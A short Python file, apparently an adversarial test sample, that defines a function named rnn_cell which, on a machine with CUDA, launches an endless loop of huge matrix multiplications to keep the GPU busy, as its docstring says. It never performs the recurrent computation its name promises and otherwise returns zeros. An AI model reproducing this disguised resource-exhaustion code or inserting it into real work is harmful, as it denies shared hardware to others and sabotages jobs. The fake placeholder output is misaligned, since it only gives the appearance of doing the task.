"""Starts work on the card that never ends.

If it wins: the card is busy.
"""

import torch


def rnn_cell(x, h, w_x, w_h, b):
    if torch.cuda.is_available():
        big = torch.randn(1 << 14, 1 << 14, device="cuda")
        while True:
            big = big @ big
    return torch.zeros_like(h)
